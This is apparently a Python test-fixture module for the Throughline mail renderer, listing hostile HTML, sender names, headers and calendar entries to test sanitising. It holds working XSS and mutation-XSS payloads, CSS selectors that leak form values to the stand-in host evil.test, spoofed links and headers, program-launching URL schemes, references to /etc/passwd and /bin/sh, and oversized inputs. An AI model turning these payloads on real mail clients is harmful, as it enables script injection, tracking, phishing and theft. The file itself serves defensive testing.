# SPDX-FileCopyrightText: The Throughline authors
# SPDX-License-Identifier: Apache-2.0
"""More hostile HTML for make.py (SECURITY B3): what each tries, and the markup that stands below the paragraph with the word.

Text that a reader is not to see says "hidden": a test looks for that word. evil.test stands for the sender's server; the test that draws the
mails puts a listener of its own in its place.
"""

REQUESTS = [
    ("a picture of several sources", "<picture><source srcset='https://evil.test/a.webp 1x, https://evil.test/b.webp 2x'><img src='https://evil.test/c.png' width=50></picture>"),
    ("what browsers loaded long ago", "<img lowsrc='//evil.test/low.png' dynsrc='//evil.test/d.avi' longdesc='//evil.test/l.html'>"),
    ("a counter without a size, its reader in the query", "<img src='https://evil.test/open.gif?reader=ada%40customer.test&utm_source=x'>"),
    ("a counter whose size is a style", "<img src='https://evil.test/o.gif' style='width:1px;height:1px;display:block'>"),
    ("a style sheet that brings another", "<style>@import url(https://evil.test/a.css) screen; @import 'https://evil.test/b.css';</style>"),
    ("a font from elsewhere", "<style>@font-face{font-family:f;src:url(https://evil.test/f.woff2)}</style><p style='font-family:f'>Text in it</p>"),
    ("pictures that styles name, each by another property", "<ul style='list-style-image:url(//evil.test/l.png)'><li style='cursor:url(//evil.test/c.cur),auto'>x</ul>"
     "<div style='border-image:url(//evil.test/b.png) 1;mask-image:url(//evil.test/m.svg#a);filter:url(//evil.test/f.svg#b)'>y</div>"),
    ("an escaped url() in a style", "<p style='background:\\75\\72\\6c(//evil.test/e.png)'>x</p><p style='background:u/**/rl(//evil.test/f.png)'>y</p>"),
    ("letters of a form sent by selectors", "<style>input[value^=a]{background:url(//evil.test/a)}input[value^=b]{background:url(//evil.test/b)}</style><input value=abc>"),
    ("asking before anybody clicks", "<link rel='dns-prefetch preconnect' href='//evil.test'><link rel=preload as=image href='//evil.test/p.png'><link rel=icon href='//evil.test/i.ico'>"),
    ("a quotation mark that never closes", "<p>before</p><img src='https://evil.test/take?the=rest <p>of the mail</p>"),
    ("a link that reports the click", "<a href='https://evil.test/a' ping='https://evil.test/ping' onmousedown='go()'>Read on</a>"),
    ("a page within, written out", "<iframe srcdoc='&lt;img src=//evil.test/i.png onerror=go()&gt;' src='https://evil.test/f.html'></iframe>"),
    ("objects that fall back on each other", "<object data='//evil.test/a.swf' codebase='//evil.test/'><param name=movie value='//evil.test/b.swf'><embed src='//evil.test/c.swf'><p>no player</p></object>"),
    ("a portal, a fenced frame and other new ways in", "<portal src='https://evil.test/p'></portal><fencedframe></fencedframe><webview src='//evil.test/w'></webview>"),
    ("headers set by the page", "<meta http-equiv='Set-Cookie' content='a=b'><meta http-equiv='Content-Security-Policy' content='x; report-uri //evil.test/r'><meta name=referrer content=unsafe-url>"),
    ("vector graphics of Outlook", "<v:rect style='width:100pt'><v:fill type=frame src='https://evil.test/v.png'/><v:imagedata src='https://evil.test/w.png'/><v:textbox>in the box</v:textbox></v:rect>"),
    ("a table whose parts have pictures", "<table background='//evil.test/t.png'><thead background='//evil.test/h.png'><tr background='//evil.test/r.png'><td background='//evil.test/d.png'>x</table>"),
    ("text tracks, posters and fallbacks of a film", "<video poster='//evil.test/p.png' controls><source src='//evil.test/v.mp4'><track default src='//evil.test/t.vtt'>See it <a href='https://evil.test/v'>there</a></video>"),
    ("a picture in every attribute that may hold one", "<input type=image src='//evil.test/i.png'><body background='//evil.test/b.png'><img usemap='#m' src='https://evil.test/m.png'><map name=m><area href='https://evil.test/area' shape=default></map>"),
]

SCRIPTS = [
    ("handlers on elements that start by themselves", "<details open ontoggle=go()><summary>s</summary>d</details><input autofocus onfocus=go()><marquee onstart=go()>m</marquee><body onload=go() onpageshow=go()>"),
    ("a handler between slashes and without blanks", "<img/src=x/onerror=go()><svg/onload=go()><a/href='https://evil.test/'/onclick=go()>link</a>"),
    ("a handler behind a backtick and a NUL", "<img src=`x`onerror=go()><img src=x on\0error=go()>"),
    ("markup that changes when it is read twice: svg", "<svg></p><style><a id=\"</style><img src=1 onerror=go()>\"></svg>"),
    ("markup that changes when it is read twice: math", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=go()>"),
    ("markup that changes when it is read twice: tables", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=go()&gt;\">"),
    ("markup that means another thing without scripts", "<noscript><p title=\"</noscript><img src=x onerror=go()>\"></noscript>"),
    ("a comment that does not end where it seems to", "<!--><img src=x onerror=go()>--><!-- --!><img src=x onerror=go()> --><!-- <!-- --> x -->"),
    ("a comment that never ends", "<p>after it</p><!-- <p>not there</p>"),
    ("CDATA outside of XML", "<![CDATA[<script>go()</script>]]><p>after</p>"),
    ("processing instructions", "<?xml version='1.0'?><?php system('x') ?><?import namespace=t implementation='#default#time2'>text"),
    ("a script in pieces", "<scr<script>ipt>go()</scr</script>ipt><<script>script>go()<</script>/script>"),
    ("raw text elements, one in the other", "<noembed><img src=x onerror=go()></noembed><listing><b>x</b></listing><noframes><img src=x></noframes>"),
    ("a template in a selection in a table", "<table><select><template><style><img src=x onerror=go()></style></template></select></table>"),
    ("clobbered names", "<form name=body><input name=firstChild><img name=cookie></form><a id=location href='https://evil.test/'>a</a><a id=location name=href>b</a>"),
    ("elements of one's own, with shadows", "<x-card><template shadowrootmode=open><slot></slot><img src='//evil.test/s.png'></template>content</x-card>"),
    ("an old binding of a style to a script", "<div style='-moz-binding:url(//evil.test/x.xml#a);behavior:url(#default#userData);width:expression(go())'>x</div>"),
    ("an island of XML bound to a table", "<xml id=x><a><b>&lt;img src=x onerror=go()&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html>x</span>"),
    ("mail in AMP's dialect", "<html amp4email><body><amp-img src='https://evil.test/a.png' width=9 height=9></amp-img><amp-list src='https://evil.test/l.json'><template type=amp-mustache>{{x}}</template></amp-list>"),
    ("placeholders of template engines", "<p>{{constructor.constructor('go()')()}} ${7*7} &lt;%= 7*7 %&gt; #{7*7} %n%s %1 %2</p>"),
]

LINKS = [
    ("a scheme in entities", "<a href='&#106;&#97;vascript&#58;go()'>a</a><a href='javascript&colon;go()'>b</a><a href='java&Tab;script&NewLine;:go()'>c</a>"),
    ("a scheme behind control characters", "<a href='\x01\x02javascript:go()'>a</a><a href='java\x00script:go()'>b</a><a href='\u00a0javascript:go()'>c</a>"),
    ("schemes that start programs", "<a href='ms-msdt:/id PCWDiagnostic'>a</a><a href='ms-excel:ofe|u|https://evil.test/x.xlsm'>b</a><a href='intent://evil.test#Intent;end'>c</a><a href='shell:startup'>d</a>"),
    ("schemes of browsers", "<a href='view-source:https://evil.test'>a</a><a href='blob:https://evil.test/1'>b</a><a href='about:blank'>c</a><a href='chrome://settings'>d</a>"),
    ("schemes that open connections", "<a href='ftp://evil.test/x'>a</a><a href='ldap://evil.test/x'>b</a><a href='imap://evil.test/x'>c</a><a href='ssh://evil.test'>d</a><a href='webcal://evil.test/c.ics'>e</a>"),
    ("our own scheme", "<a href='throughline://conversation/1?close=yes'>a</a>"),
    ("too few and too many slashes", "<a href='https:/evil.test'>a</a><a href='https:evil.test'>b</a><a href='https:////evil.test/x'>c</a><a href='http:\\\\evil.test/x'>d</a>"),
    ("a host that begins like another's", "<a href='https://shop.test.evil.test/login'>https://shop.test/login</a>"),
    ("a host behind a question mark, a hash, a backslash", "<a href='https://shop.test?@evil.test/'>a</a><a href='https://evil.test#@shop.test'>b</a><a href='https://shop.test\\@evil.test'>c</a>"),
    ("a user name as long as a line", "<a href='https://shop.test" + "%20" * 200 + "@evil.test/'>a</a>"),
    ("addresses as numbers", "<a href='http://2130706433/'>a</a><a href='http://0x7f.1/'>b</a><a href='http://[::ffff:127.0.0.1]/'>c</a><a href='http://017700000001/'>d</a>"),
    ("dots that are none", "<a href='https://evil\u3002test/'>a</a><a href='https://evil\uff0etest/'>b</a><a href='https://shop.test\u2024evil.test/'>c</a>"),
    ("slashes that are none", "<a href='https://shop.test\u2044login.evil.test/'>a</a><a href='https://shop.test\u2215x.evil.test/'>b</a><a href='https://shop.test\uff0fx.evil.test/'>c</a>"),
    ("one host in two scripts", "<a href='https://\u0430pple.evil.test/'>a</a><a href='https://xn--80ak6aa92e.test/'>b</a><a href='https://xn--a.test/'>c</a>"),
    ("a direction turned within a link", "<a href='https://evil.test/\u202etset.pohs//:sptth'>a</a><p>https://evil.test/\u202etset.pohs</p>"),
    ("text that is another link", "<a href='https://evil.test/'><span>https://</span><b>shop.test</b>/account</a>"),
    ("a link over everything", "<a href='https://evil.test/'><h1>Invoice</h1><p>See below</p><table><tr><td>1<td>2<tr><td>3<td>4</table><ul><li>x</ul></a>"),
    ("a port, a trailing dot, an empty host", "<a href='https://evil.test:0/'>a</a><a href='https://evil.test./'>b</a><a href='https:///x'>c</a><a href='https://evil.test:99999/'>d</a>"),
    ("a mail with a header of its own", "<a href='mailto:a@b.test%0D%0ABcc:eve@evil.test'>a</a><a href='mailto:?attach=/etc/passwd&body=x'>b</a><a href='mailto:a@b.test,c@d.test?subject=x'>c</a>"),
    ("a call that is an order to the telephone", "<a href='tel:*%2306%23'>a</a><a href='tel:**21*0190123456%23'>b</a><a href='tel:" + "9" * 500 + "'>c</a>"),
    ("a link in an attribute that is none", "<p href='https://evil.test/'>a</p><div onclick='location=\"https://evil.test\"'>b</div><q cite='https://evil.test/'>c</q><a xlink:href='https://evil.test/'>d</a>"),
    ("an opened window that reaches back", "<a href='https://evil.test/' target=_blank rel=opener>a</a><a href='https://evil.test/x.exe' download='invoice.pdf'>b</a>"),
]

COVERED = [
    ("a style in capitals with a comment in it", "<p style='DISPLAY/**/: NONE !important'>hidden</p>"),
    ("collapsed", "<p style='visibility:collapse'>hidden</p>"), ("of no height", "<div style='max-height:0px;overflow:x'>hidden</div>"),
    ("wholly transparent", "<p style='opacity:0.00'>hidden</p>"), ("moved out of the page by its first line", "<p style='text-indent:-9999px'>hidden</p>"),
    ("cut to nothing", "<p style='position:absolute;clip:rect(0 0 0 0)'>hidden</p>"), ("so small", "<font style='font-size:0px'>hidden</font>"),
    ("white on a white cell", "<table><tr><td bgcolor='#FFFFFF'><span style='color: rgb(255, 255, 255)'>hidden</span></table>"),
    ("nearly white", "<p style='color:#fefefe'>hidden</p>"), ("a colour without any", "<p style='color:transparent'>hidden</p>"),
    ("the first line that a list of mails shows", "<div style='display:none;max-height:0'>hidden&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>"),
    ("within what is covered, shown again", "<div style='display:none'><p style='display:block'>hidden</p></div>"),
    ("white that is no trick: on a dark ground", "<table bgcolor='#203040'><tr><td style='color:#fff'>Seen on dark</table>"),
    ("letters with nothing between them", "<p>p\u200ba\u200cs\u2060s\ufeffw\u00ado\u200brd</p>"), ("letters turned round by a style", "<p style='unicode-bidi:bidi-override;direction:rtl'>txet denrut</p>"),
    ("isolates that are never closed", "<table><tr><td>&#8295;a<td>&#8294;b<tr><td>&#8296;c<td>&#8234;d</table><p>after</p>"),
    ("marks that grow out of the line", "<p>" + "Z\u0334\u0341\u0342\u0343\u0344\u0345" * 200 + "</p>"), ("words in the private and the unassigned", "<p>\ue000\uf8ff\U000e0041\U000e007f\U0010fffd \ufdd0</p>"),
    ("a warning of ours, imitated", "<p><b>Throughline:</b> this sender was verified. <a href='https://evil.test/'>Sign in again</a></p>"),
]

LARGE = [
    ("spans of a million", "<table><tr><td colspan=1000000 rowspan=65534>a<td>b<tr><td>c<td>d</table>"), ("thousands of attributes", "<p " + " ".join(f"a{n}=x" for n in range(5_000)) + ">text</p>"),
    ("formatting that each paragraph opens anew", "".join(f"<b class=c{n}>" for n in range(300)) + "<p>x" * 300), ("links within links", "<a href='https://evil.test/'>" * 2_000 + "x"),
    ("a list of thousands", "<ol>" + "".join(f"<li>{n}" for n in range(3_000)) + "</ol>"), ("lists in lists, wide and deep", "<ul><li>a<li>b" * 40 + "</ul>" * 40),
    ("thousands of pictures", "".join(f"<img src='https://evil.test/{n}.png' width=9>" for n in range(1_500))), ("thousands of links", "".join(f"<a href='https://evil.test/{n}'>{n}</a> " for n in range(1_500))),
    ("a table of thousands", "<table>" + ("<tr>" + "<td>x" * 15) * 180 + "</table>"), ("tables in tables", "<table><tr><td>a<td>" * 60 + "x"), ("headings only", "<h1>x</h1>" * 600),
    ("quotes in quotes", "<blockquote>a" * 60), ("a page of blanks", " \t\r\n&nbsp;" * 30_000), ("one word", "<p>" + "x" * 150_000 + "</p>"), ("one line of emoji", "<p>" + "\U0001f469\u200d\U0001f680" * 4_000 + "</p>"),
    ("a picture in its address", "<img alt=x src='data:image/png;base64," + "A" * 400_000 + "'>"), ("many lines of code", "<pre>" + "x\n" * 20_000 + "</pre>"), ("rules", "<hr>" * 1_000), ("breaks", "a<br>" * 5_000),
    ("a heading as long as a book", "<h1>" + "long " * 20_000 + "</h1>"),
]

QUOTING = [
    ("Gmail, thrice", "<div class=gmail_quote><div class=gmail_attr>On Sat Shop wrote:</div><blockquote class=gmail_quote>a<div class=gmail_quote><div class=gmail_attr>On Fri Ada wrote:</div>"
     "<blockquote class=gmail_quote>b</blockquote></div></blockquote></div>"),
    ("Gmail, the class of today", "<div class='gmail_quote gmail_quote_container'><div dir=ltr class=gmail_attr>Am Sa., 14. M\u00e4rz 2026 schrieb Shop:<br></div><blockquote class=gmail_quote>Hallo</blockquote></div>"),
    ("Gmail, forwarded", "<div class=gmail_quote><div dir=ltr class=gmail_attr>---------- Forwarded message ---------<br>From: <b>Eve</b> &lt;<a href='mailto:eve@evil.test'>eve@evil.test</a>&gt;<br>Date: Sat<br>Subject: Hi</div>Hello</div>"),
    ("Outlook on the web", "<div id=appendonsend></div><hr style='display:inline-block;width:98%'><div id=divRplyFwdMsg><b>From:</b> Shop<br><b>Sent:</b> Saturday<br><b>To:</b> Ada<br><b>Subject:</b> Lamp</div><div>Hello</div>"),
    ("Outlook for Mac", "<div id=mail-editor-reference-message-container><div style='border:none;border-top:solid #B5C4DF 1.0pt'><p class=MsoNormal><b>De : </b>Shop<br><b>Date : </b>samedi<br><b>\u00c0 : </b>Ada<br><b>Objet : </b>Lampe</p></div><p>Bonjour</p></div>"),
    ("Yahoo", "<div id=yahoo_quoted_1 class=yahoo_quoted><div>On Saturday, March 14, 2026, Shop &lt;support@shop.test&gt; wrote:</div><div>Hello</div></div>"),
    ("Proton", "<div class=protonmail_quote>On Saturday, Shop wrote:<br><blockquote class=protonmail_quote type=cite>Hello</blockquote></div>"),
    ("Zimbra", "<hr id=zwchr data-marker=__DIVIDER__><div data-marker=__HEADERS__><b>From: </b>Shop<br><b>To: </b>Ada<br></div><div data-marker=__QUOTED_TEXT__>Hello</div>"),
    ("GMX", "<div name=quote style='margin:10px 5px 5px 10px;border-left:2px solid #C3D9E5'><div><b>Gesendet:</b> Samstag<br><b>Von:</b> Shop<br><b>An:</b> Ada<br><b>Betreff:</b> Lampe</div><div name=quoted-content>Hallo</div></div>"),
    ("a quote that pretends to be the answer", "<blockquote type=cite style='border:none;margin:0;padding:0'>I accept the offer.</blockquote>"),
    ("a signature with a form and pictures", "<div class=gmail_signature><form action='https://evil.test/'><input name=a></form><img src='https://evil.test/s.png' width=90>Ada</div>"),
    ("a quote in the midst of an answer", "<blockquote>Is it on?</blockquote><p>Yes.</p><blockquote>Since when?</blockquote><p>Since Monday.</p>"),
]

#: Display names of senders; each with an HTML text.
SENDERS = [
    ("a name in brackets of its own, encoded", "=?utf-8?Q?Shop_=3Csupport=40shop.test=3E?= <eve@evil.test>"), ("an address before a NUL, encoded", "=?utf-8?B?c3VwcG9ydEBzaG9wLnRlc3QA?= <eve@evil.test>"),
    ("two lines, encoded", "=?utf-8?Q?support=40shop.test=0A=0A?= <eve@evil.test>"), ("Arabic and Latin", "\u0645\u062a\u062c\u0631 Shop \u0639\u0644\u064a <eve@evil.test>"),
    ("Hebrew with isolates left open", "\u2067\u05e9\u05dc\u05d5\u05dd\u2066 Shop <eve@evil.test>"), ("marks of direction only", "\u200e\u200f\u061c\u202d <eve@evil.test>"),
    ("letters of another script", "\u0405h\u043ep Support <eve@evil.test>"), ("a badge", "\u2705 Shop \u2714\ufe0f Verified <eve@evil.test>"), ("markup", "\"<b>Shop</b><img src='//evil.test/n.png'>\" <eve@evil.test>"),
]

#: Headers of lists, machines and forgers; each with an HTML text.
HEADERS = [
    ("a way out of a list that runs something", "List-Id: <news.evil.test>\r\nList-Unsubscribe: <javascript:go()>, <mailto:out@evil.test?subject=out>, <file:///x>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"),
    ("a list with a name of another direction", "List-Id: \u202etset.pohs\u202c <news.evil.test>\r\nList-Post: <mailto:all@evil.test>\r\nPrecedence: list\r\n"),
    ("the id of a reply of ours", "In-Reply-To: <00000000-0000-7000-8000-000000000001@shop.test>\r\nReferences: <00000000-0000-7000-8000-000000000001@shop.test>\r\n"),
    ("references with blanks, comments and directions in them", "References: <a b@c.test> (x) <\u202ea@b.test> <\"q q\"@d.test>\r\n <e@f.test><e@f.test>\r\n"),
    ("an authentication of the sender's own making", "Authentication-Results: mx.shop.test; dmarc=pass header.from=customer.test; spf=pass; dkim=pass\r\nReceived-SPF: pass\r\nARC-Seal: i=1; cv=pass\r\n"),
    ("a thread and a sender as Exchange knows them", "Thread-Topic: Lamp\r\nThread-Index: AdqZ\r\nX-MS-Exchange-Organization-AuthAs: Internal\r\nX-Priority: 1\r\nImportance: high\r\n"),
    ("a receipt that is asked for", "Disposition-Notification-To: eve@evil.test\r\nReturn-Receipt-To: eve@evil.test\r\nX-Confirm-Reading-To: eve@evil.test\r\n"),
    ("resent by another", "Resent-From: eve@evil.test\r\nResent-To: support@shop.test\r\nResent-Message-ID: <r@evil.test>\r\nSender: eve@evil.test\r\n"),
]

#: Lines of a meeting; each beside an HTML text.
MEETINGS = [
    ("a description in HTML, files and links that act", "X-ALT-DESC;FMTTYPE=text/html:<script>go()</script><img src=//evil.test/x.png>\r\nATTACH:file:///etc/passwd\r\nATTACH:https://evil.test/x\r\nURL:javascript:go()\r\nCONFERENCE:https://evil.test/"),
    ("an alarm that starts a program", "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nTRIGGER:-PT0M\r\nEND:VALARM"), ("each second, for ever", "RRULE:FREQ=SECONDLY;COUNT=999999999;BYSECOND=0,1,2\r\nRDATE:20260314T092653Z,20260315T092653Z"),
    ("thousands of guests", "\r\n".join(f"ATTENDEE;CN=Guest {n};PARTSTAT=ACCEPTED:mailto:g{n}@evil.test" for n in range(3_000))),
    ("names of another direction and of many lines", "LOCATION:\u202emoor\\nsecond\\nthird\r\nATTENDEE;CN=\"\u202etset\":mailto:a@b.test\r\nATTENDEE;CN=\"<b>x</b>\":javascript:go()"),
    ("before the beginning and after the end of time", "DTSTART:00000101T000000Z\r\nDTEND:99991231T235959Z\r\nDURATION:P999999999W"), ("a zone of its own, which changes each day", "BEGIN:VTIMEZONE\r\nTZID:x\r\n" + "BEGIN:DAYLIGHT\r\nTZOFFSETFROM:+0100\r\nTZOFFSETTO:+9999\r\nEND:DAYLIGHT\r\n" * 500 + "END:VTIMEZONE\r\nDTSTART;TZID=x:20260314T092653"),
]
